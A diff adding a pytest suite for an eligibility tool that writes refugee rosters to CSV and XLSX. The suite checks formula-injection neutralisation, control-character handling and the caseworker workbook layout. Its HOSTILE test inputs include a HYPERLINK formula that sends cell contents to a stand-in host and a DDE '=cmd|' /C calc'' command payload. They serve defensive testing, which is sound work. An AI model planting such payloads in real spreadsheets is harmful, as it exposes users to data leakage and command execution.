@@ -1,0 +1,217 @@
+"""Writing rosters: formula triggers neutralised in every output, the caseworker XLSX,
+every record answered on every path."""
+
+import csv
+import datetime as dt
+import io
+import json
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from eligibility import Engine
+from eligibility.batch import evaluate_roster
+from eligibility.cells import TRIGGERS, is_dangerous, neutralise, restore, xlsx_text
+from eligibility.cli import main
+from eligibility.rosters import read_roster
+from eligibility.synth import GERMAN_HEADERS
+
+ROOT = Path(__file__).resolve().parents[1]
+ENGINE = Engine.load()
+ON = dt.date(2018, 9, 15)
+FIELDS = list(GERMAN_HEADERS)
+
+HOSTILE = [
+    '=HYPERLINK("http://x"&B2,"klick")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\n=cmd|' /C calc'!A0",
+    "\u00a0@x",
+    "\uff1d1+1",
+]
+
+
+def hostile_csv(path: Path, ids: list[str], gemeinde: str = "=Talbach") -> None:
+    header = ";".join(GERMAN_HEADERS[f] for f in FIELDS)
+    buf = io.StringIO()
+    w = csv.writer(buf, delimiter=";", lineterminator="\r\n")
+    for pid in ids:
+        rec = {"person_id": pid, "aufenthaltsstatus": "duldung", "unterbringung": "anschluss",
+               "gemeinde": gemeinde, "kreis": "@Kreis", "aufnahme_uab_datum": "01.02.2016"}
+        w.writerow([rec.get(f, "") for f in FIELDS])
+    path.write_bytes(b"\xef\xbb\xbf" + (header + "\r\n").encode() + buf.getvalue().encode())
+
+
+def read_ids(src: Path, strip: bool = True) -> list[str]:
+    """The ids as the engine takes them: without surrounding white space (the record id
+    is stripped; the writer neutralises what is left, so nothing is re-armed)."""
+    ids = [r.record["person_id"] for r in read_roster(src, ENGINE.entity().facts)[1]]
+    return [i.strip() for i in ids] if strip else ids
+
+
+def assert_no_live_cell(path: Path) -> list[list]:
+    wb = openpyxl.load_workbook(path)
+    values = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str):
+                    assert not is_dangerous(c.value), (ws.title, c.coordinate, c.value)
+            values.append([c.value for c in row])
+    return values
+
+
+def assert_no_live_csv(text: str) -> list[dict]:
+    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
+    for r in rows:
+        for v in r.values():
+            assert not is_dangerous(v or ""), v
+    return rows
+
+
+def test_neutralise_rule():
+    for text in HOSTILE:
+        assert is_dangerous(text)
+        out = neutralise(text)
+        assert out == "'" + text and not is_dangerous(out) and restore(out) == text
+    for safe in ["Talbach", "LKB-1", "", "a=b", "Müller-Lüdenscheidt", "'"]:
+        assert neutralise(safe) == safe and restore(safe) == safe
+    assert neutralise(-3) == -3 and neutralise(dt.date(2017, 1, 2)) == dt.date(2017, 1, 2)
+    assert set("=+-@\t\r") <= TRIGGERS
+    # A leading tab is kept (stripping it re-arms the formula).
+    assert neutralise("\t=1") == "'\t=1"
+    assert xlsx_text("a\x00b\x1fc\td") == "a\ufffdb\ufffdc\td"
+
+
+@given(st.text(max_size=12))
+def test_neutralised_text_is_never_dangerous_and_restores(text):
+    out = neutralise(text)
+    assert not is_dangerous(out)
+    assert restore(out) == text
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("fast", [True, False])
+def test_evaluate_neutralises_every_trigger(tmp_path, fmt, fast):
+    src = tmp_path / "in.csv"
+    # Without quote characters or line breaks the CSV takes the Arrow block path; with them
+    # the exact reader.
+    ids = [h for h in HOSTILE if not set(h) & set('"\r\n')] if fast else HOSTILE
+    hostile_csv(src, ids)
+    out = tmp_path / f"out.{fmt}"
+    summary = evaluate_roster(ENGINE, src, ON, out)
+    assert summary.rows == len(ids)
+    if fmt == "csv":
+        rows = assert_no_live_csv(out.read_text(encoding="utf-8-sig"))
+        # Reversible: the apostrophe in front, the id as read behind it.
+        assert [restore(r["person_id"]) for r in rows] == read_ids(src)
+    else:
+        values = assert_no_live_cell(out)
+        # The XLSX copies the input columns as they were typed, leading tab included.
+        # (XlsxWriter stores a CR as Excel's escape _x000D_, which Excel reads back as CR.)
+        unescape = lambda t: re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), t)  # noqa: E731
+        assert [restore(unescape(v[1])) for v in values[1:len(ids) + 1]] == read_ids(src, strip=False)
+        assert values[1][2] == "'=Talbach" and values[1][3] == "'@Kreis"
+
+
+def test_convert_neutralises_csv_and_xlsx(tmp_path):
+    src = tmp_path / "in.csv"
+    hostile_csv(src, HOSTILE)
+    for fmt in ("csv", "xlsx"):
+        out = tmp_path / f"conv.{fmt}"
+        r = CliRunner().invoke(main, ["convert", str(src), "--out", str(out)])
+        assert r.exit_code == 0, r.output
+        if fmt == "csv":
+            rows = assert_no_live_csv(out.read_text(encoding="utf-8-sig"))
+            assert len(rows) == len(HOSTILE)
+        else:
+            values = assert_no_live_cell(out)
+            assert len(values) == len(HOSTILE) + 1
+            # dates stay real dates in XLSX
+            col = values[0].index(GERMAN_HEADERS["aufnahme_uab_datum"])
+            assert values[1][col] == dt.datetime(2016, 2, 1)
+
+
+def test_nul_and_control_characters_do_not_corrupt_the_xlsx(tmp_path):
+    src = tmp_path / "in.jsonl"
+    src.write_text("\n".join(json.dumps({"person_id": f"A\x00{i}\x07\x1b", "aufenthaltsstatus": "duldung",
+                                         "gemeinde": "Tal\x0bbach"}) for i in range(3)) + "\n", encoding="utf-8")
+    out = tmp_path / "out.xlsx"
+    evaluate_roster(ENGINE, src, ON, out)
+    values = assert_no_live_cell(out)
+    assert [v[1] for v in values[1:4]] == [f"A\ufffd{i}\ufffd\ufffd" for i in range(3)]
+    assert values[1][2] == "Tal\ufffdbach"
+
+
+# ---------------------------------------------------------------- the caseworker XLSX
+
+
+def test_caseworker_xlsx_reads_back(tmp_path):
+    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
+    out = tmp_path / "erg.xlsx"
+    r = CliRunner().invoke(main, ["evaluate", str(src), "--on", "15.09.2018", "--out", str(out), "--errors-ok",
+                                  "--keep", "Aufnahme UAB"])
+    assert r.exit_code == 0, r.output
+    wb = openpyxl.load_workbook(out)
+    ws = wb.worksheets[0]
+    assert ws.title == "Ergebnis"
+    header = [c.value for c in ws[1]]
+    assert header[:5] == ["Zeile", "Personen-ID", "Aufnahme UAB", "Anschlussunterbringung (Kreis der AUB)",
+                          "Anschlussunterbringung (Kreis der AUB): Begründung"]
+    for label in ("Zu klären", "Hinweise", "Zielgruppe Integrationsmanagement"):
+        assert label in header
+    assert ws.freeze_panes == "A2"
+    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}1501"
+    assert ws.column_dimensions["B"].width > 10
+    rows = list(ws.iter_rows(min_row=2, values_only=True))
+    assert len(rows) == 1500
+    # "Zeile" as Excel shows the input row: the first data row is row 2.
+    assert [r[0] for r in rows[:3]] == [2, 3, 4]
+    first = rows[0]
+    assert isinstance(first[2], dt.datetime) and ws.cell(2, 3).number_format == "dd.mm.yyyy"
+    words = {r[header.index("Zielgruppe Integrationsmanagement")] for r in rows}
+    assert words <= {"ja", "nein", "noch offen", "Fehler"} and "noch offen" in words
+    assert {r[header.index("Priorität nach Bleibeperspektive")] for r in rows} & {"hoch", "normal", "niedrig"}
+    reasons = [r[4] for r in rows if r[3] == "ja"]
+    assert all("§" in x for x in reasons)  # the citation is part of the reason
+    hints = [r[header.index("Hinweise")] for r in rows if r[header.index("Hinweise")]]
+    assert any(h.startswith("Aufnahme UAB: '31.02.2016' ist kein gültiges Datum") for h in hints)
+    asks = [r[header.index("Zu klären")] for r in rows if r[header.index("Zu klären")]]
+    assert asks and all("?" in a for a in asks)  # questions, not field names
+    meta = dict(wb["Angaben zur Auswertung"].iter_rows(values_only=True))
+    assert meta["Stichtag"] == dt.datetime(2018, 9, 15)
+    assert meta["Regelwerk"] == ENGINE.info.name and meta["SHA-256 des Regelwerks"] == ENGINE.info.sha256
+    assert meta["Eingabedatei"] == "roster_landkreis_beispiel.csv"
+    assert meta["Zeilen gelesen"] == 1500
+    assert meta["davon entschieden"] + meta["davon mit offenen Fragen"] + meta["davon mit Fehlern"] == 1500
+    assert meta["Nicht verwendete Spalten"] == "Bemerkung"
+
+
+def test_caseworker_xlsx_codes_and_keep_all(tmp_path):
+    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
+    out = tmp_path / "erg.xlsx"
+    evaluate_roster(ENGINE, src, ON, out, keep=["all"], columns="codes")
+    header = [c.value for c in openpyxl.load_workbook(out, read_only=True).worksheets[0][1]]
+    ent = ENGINE.entity()
+    assert header[:1 + len(ent.facts)] == ["zeile", *ent.facts]
+    assert "integrationsmanagement" in header and "hinweise" in header
+
+
+def test_caseworker_xlsx_is_byte_identical(tmp_path):
+    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
+    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
+    evaluate_roster(ENGINE, src, ON, a)
+    evaluate_roster(ENGINE, src, ON, b)
+    assert a.read_bytes() == b.read_bytes()
+    assert "2000-01-01T00:00:00Z" in zipfile.ZipFile(a).read("docProps/core.xml").decode()
